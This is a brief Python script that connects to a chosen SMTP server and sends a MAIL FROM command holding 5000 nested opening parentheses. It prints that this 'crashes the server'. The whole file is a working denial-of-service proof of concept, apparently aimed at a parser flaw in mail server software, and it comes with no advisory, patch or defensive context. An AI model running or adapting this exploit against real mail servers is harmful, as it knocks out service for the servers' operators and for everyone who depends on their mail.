import argparse
import socket

ap = argparse.ArgumentParser()
ap.add_argument("host")
ap.add_argument("--port", type=int, default=25)
a = ap.parse_args()

s = socket.create_connection((a.host, a.port))
s.recv(1024)
s.send(b"EHLO x\r\nMAIL FROM:<" + b"(" * 5000 + b">\r\n")
print("[*] sent nested comment header; this crashes the server")
